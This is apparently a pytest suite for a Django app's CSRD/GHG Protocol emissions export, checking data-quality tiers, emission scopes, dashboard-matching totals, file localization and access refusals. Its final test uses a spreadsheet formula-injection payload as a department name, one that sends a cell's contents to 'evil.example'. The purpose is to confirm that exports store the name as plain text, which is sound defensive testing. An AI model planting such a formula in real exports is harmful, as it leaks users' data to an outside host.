"""The CSRD / GHG Protocol export: totals equal the dashboard's, scopes, data-quality tiers, files."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from estimator.models import AIModel
from reports import exports
from reports.services import report_settings
from tests.factories import DepartmentFactory
from tests.usage.test_dashboard import add_usage
from usage import rollups
from usage import services as usage

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("source", "tier"),
    [
        ("openai-usage", exports.PROVIDER),
        ("Anthropic", exports.PROVIDER),
        ("litellm", exports.GATEWAY),
        ("otel:collector-1", exports.GATEWAY),
        ("csv", exports.PROFILE),
        ("demo", exports.PROFILE),
        ("use-case-profile", exports.PROFILE),
    ],
)
def test_the_data_quality_tier_comes_from_the_records_source(source, tier):
    assert exports.quality_tier(source) == tier


@pytest.mark.parametrize(
    ("kind", "tier"),
    [
        ("openai", exports.PROVIDER),
        ("anthropic", exports.PROVIDER),
        ("litellm", exports.GATEWAY),
        ("otlp", exports.GATEWAY),
    ],
)
def test_a_usage_connections_records_take_the_tier_of_its_kind(kind, tier):
    assert exports.quality_tier("connection-7", {"connection-7": kind}) == tier
    assert exports.quality_tier("connection-8", {"connection-7": kind}) == exports.PROFILE


def _records(department, model_slug, source, month, n=1):
    ids = usage.Lookups()
    usage.insert_records(
        [
            (month, department.pk, None, ids.models[model_slug][0], "us-central1", 100, 50_000, 40_000, 0,
             None, None, source, f"{source}-{department.pk}-{model_slug}-{month}-{i}")
            for i in range(n)
        ]
    )  # fmt: skip


def test_totals_equal_the_dashboards_for_the_same_period_and_scope(client, root, bruno, sales, research):
    # Given three months of usage in two departments
    add_usage([sales, research], months=3, per_month=2)
    end = timezone.localdate().replace(day=1)
    start = (end - datetime.timedelta(days=40)).replace(day=1)
    query = {"start": f"{start:%Y-%m}", "end": f"{end:%Y-%m}"}

    for user in (root, bruno):
        client.force_login(user)
        # When the dashboard and the export read the same two months
        dashboard = client.get(reverse("usage:dashboard"), query).context["total"]
        export = exports.export_build(user, start=start, end=end)

        # Then every total is the dashboard's
        assert export.lines
        assert export.total("emissions_kgco2e") == pytest.approx(dashboard.emissions_kgco2e[1])
        assert export.total("emissions_kgco2e", 0) == pytest.approx(dashboard.emissions_kgco2e[0])
        assert export.total("emissions_kgco2e", 2) == pytest.approx(dashboard.emissions_kgco2e[2])
        assert export.total("energy_kwh") == pytest.approx(dashboard.energy_kwh[1])
        assert export.total("water_l") == pytest.approx(dashboard.water_l[1])
        assert sum(line.requests for line in export.lines) == dashboard.requests
    assert {line.department for line in exports.export_build(bruno, start=start, end=end).lines} == {"Sales"}


def test_self_hosted_models_are_scope_2_for_electricity_and_scope_3_2_for_hardware(root, sales):
    month = timezone.localdate().replace(day=1)
    _records(sales, "gpt-4o", "openai-usage", month)
    _records(sales, "llama-3.1-8b", "litellm", month)
    _records(sales, "llama-3.1-8b", "csv", month)
    rollups.rollups_recompute()
    report_settings().self_hosted_models.add(AIModel.objects.get(slug="llama-3.1-8b"))

    export = exports.export_build(root, start=month, end=month)

    by_scope = {(line.scope, line.model): line for line in export.lines}
    assert set(by_scope) == {("3.1", "GPT-4o"), ("2", "Llama 3.1 8B"), ("3.2", "Llama 3.1 8B")}
    assert by_scope[("3.1", "GPT-4o")].tier == exports.PROVIDER
    # Mixed sources: the line takes the lowest tier
    assert by_scope[("2", "Llama 3.1 8B")].tier == exports.PROFILE
    assert by_scope[("2", "Llama 3.1 8B")].sources == {"litellm", "csv"}
    # Hardware is counted once, activity data once
    assert by_scope[("3.2", "Llama 3.1 8B")].requests == 0
    assert by_scope[("2", "Llama 3.1 8B")].requests == 200
    llama = (
        by_scope[("2", "Llama 3.1 8B")].emissions_kgco2e[1]
        + by_scope[("3.2", "Llama 3.1 8B")].emissions_kgco2e[1]
    )
    direct = exports.export_build(root, start=month, end=month)
    assert llama > by_scope[("2", "Llama 3.1 8B")].emissions_kgco2e[1] > 0
    assert direct.total("emissions_kgco2e") == pytest.approx(export.total("emissions_kgco2e"))


def test_the_files_have_the_lines_and_the_methodology_in_the_users_language(client, root, sales):
    month = timezone.localdate().replace(day=1)
    _records(sales, "gpt-4o", "openai-usage", month)
    rollups.rollups_recompute()
    client.force_login(root)

    response = client.get(reverse("reports:export"), {"period": f"{month:%Y-%m}", "format": "xlsx"})
    workbook = load_workbook(io.BytesIO(response.content))
    emissions, notes = workbook.worksheets
    header = [cell.value for cell in emissions[1]]
    (row,) = [[cell.value for cell in line] for line in emissions.iter_rows(min_row=2)]
    line = dict(zip(header, row, strict=True))
    assert line["GHG Protocol scope"].startswith("Scope 3, category 1")
    assert line["Data-quality tier"].startswith("1")
    assert line["Emissions, market-based (kgCO2e)"] == "not available (see methodology)"
    assert line["Estimator version"]
    topics = {
        notes.cell(row=r, column=1).value: notes.cell(row=r, column=2).value
        for r in range(2, notes.max_row + 1)
    }
    assert "location basis" in topics["Market-based emissions"]
    assert "Google Cloud" in topics["Grid intensity sources"]

    client.cookies["django_language"] = "fr"
    french = client.get(
        reverse("reports:export"), {"period": f"{month:%Y-%m}", "format": "csv"}, HTTP_ACCEPT_LANGUAGE="fr"
    )
    rows = list(csv.reader(io.StringIO(french.content.decode("utf-8-sig"))))
    assert rows[0][2] == "Périmètre GHG Protocol"
    assert float(rows[1][11]) == pytest.approx(line["Emissions, location-based (kgCO2e)"])


def test_bad_periods_and_other_departments_are_refused(client, bruno, research):
    client.force_login(bruno)
    bad = client.get(reverse("reports:export"), {"period": "2026-13", "format": "csv"})
    other = client.get(
        reverse("reports:export"), {"period": "2026", "department": research.pk, "format": "csv"}
    )
    assert bad.status_code == 400 and "period" in bad.context["form"].errors
    assert other.status_code == 400 and "department" in other.context["form"].errors


def test_a_department_named_like_a_formula_is_text_in_both_files(client, root):
    """Issue 14, defect 5: department names come from admins and SSO; no file hands a spreadsheet a formula."""
    evil = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
    month = timezone.localdate().replace(day=1)
    _records(DepartmentFactory(name=evil), "gpt-4o", "openai-usage", month)
    _records(DepartmentFactory(name="-Ops"), "gpt-4o", "openai-usage", month)
    rollups.rollups_recompute()
    client.force_login(root)
    query = {"period": f"{month:%Y-%m}"}

    as_csv = client.get(reverse("reports:export"), {**query, "format": "csv"})
    as_xlsx = client.get(reverse("reports:export"), {**query, "format": "xlsx"})

    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert sorted(row[3] for row in rows[1:]) == ["'-Ops", "'" + evil]
    assert all(float(row[11]) > 0 for row in rows[1:])  # numbers stay numbers
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).worksheets[0]
    cells = [line[3] for line in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in cells) == ["-Ops", evil]  # the exact text, stored as text
    assert {cell.data_type for cell in cells} == {"s"}
